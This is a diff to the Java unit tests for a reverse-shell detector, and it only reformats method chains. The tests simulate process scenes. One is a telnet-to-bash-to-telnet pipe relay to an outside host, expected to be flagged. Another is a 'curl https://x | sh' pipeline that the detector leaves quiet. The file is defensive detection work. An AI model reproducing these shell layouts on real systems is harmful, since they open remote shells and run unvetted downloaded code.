@@ -52,16 +52,24 @@ final class PipeRelayShellDetectorTest implements DetectorContract {
     @Test
     void inspect_twoNetworkPrograms_findsIt() {
         Scene.Actor line = scene.starts("/bin/sh", "sh", "-c", "pipeline").pipes(3, 4);
-        line.forks().duplicates(4, 1).executes("/usr/bin/telnet", "telnet", OUTSIDE, "1").connects(7, OUTSIDE, 1);
+        line.forks()
+                .duplicates(4, 1)
+                .executes("/usr/bin/telnet", "telnet", OUTSIDE, "1")
+                .connects(7, OUTSIDE, 1);
         line.pipes(5, 6);
         line.forks().duplicates(3, 0).duplicates(6, 1).executes("/bin/bash", "bash");
-        line.forks().duplicates(5, 0).executes("/usr/bin/telnet", "telnet", OUTSIDE, "2").connects(7, OUTSIDE, 2);
+        line.forks()
+                .duplicates(5, 0)
+                .executes("/usr/bin/telnet", "telnet", OUTSIDE, "2")
+                .connects(7, OUTSIDE, 2);
         assertThatFindings(found()).show("reverse-shell.pipe-relay", "mechanism", "pipes between two network programs");
     }
 
     @Test
     void inspect_readerOfTheSocketBeforeALoop_findsIt() {
-        Scene.Actor bash = scene.starts("/bin/bash", "bash", "-c", "loop").connects(5, OUTSIDE, 9).pipes(3, 4);
+        Scene.Actor bash = scene.starts("/bin/bash", "bash", "-c", "loop")
+                .connects(5, OUTSIDE, 9)
+                .pipes(3, 4);
         bash.forks().duplicates(5, 0).duplicates(4, 1).executes("/bin/cat", "cat");
         bash.forks().duplicates(3, 0).duplicates(5, 1);
         assertThatFindings(found()).show("reverse-shell.pipe-relay", "mechanism", "a pipe from a reader of the socket");
@@ -75,15 +83,20 @@ final class PipeRelayShellDetectorTest implements DetectorContract {
 
     @Test
     void inspect_downloadIntoShell_isQuiet() {
-        Scene.Actor line = scene.starts("/bin/sh", "sh", "-c", "curl https://x | sh").pipes(3, 4);
-        line.forks().duplicates(4, 1).executes("/usr/bin/curl", "curl", "https://x").connects(5, OUTSIDE, 443);
+        Scene.Actor line =
+                scene.starts("/bin/sh", "sh", "-c", "curl https://x | sh").pipes(3, 4);
+        line.forks()
+                .duplicates(4, 1)
+                .executes("/usr/bin/curl", "curl", "https://x")
+                .connects(5, OUTSIDE, 443);
         line.forks().duplicates(3, 0).executes("/bin/sh", "sh");
         assertThatFindings(found()).areNone();
     }
 
     @Test
     void inspect_outputSentByNetcat_isQuiet() {
-        Scene.Actor line = scene.starts("/bin/sh", "sh", "-c", "sh metrics.sh | nc h 2003").pipes(3, 4);
+        Scene.Actor line =
+                scene.starts("/bin/sh", "sh", "-c", "sh metrics.sh | nc h 2003").pipes(3, 4);
         line.forks().duplicates(4, 1).executes("/bin/sh", "sh", "metrics.sh");
         line.forks().duplicates(3, 0).executes("/bin/nc", "nc", OUTSIDE, "2003").connects(5, OUTSIDE, 2003);
         assertThatFindings(found()).areNone();
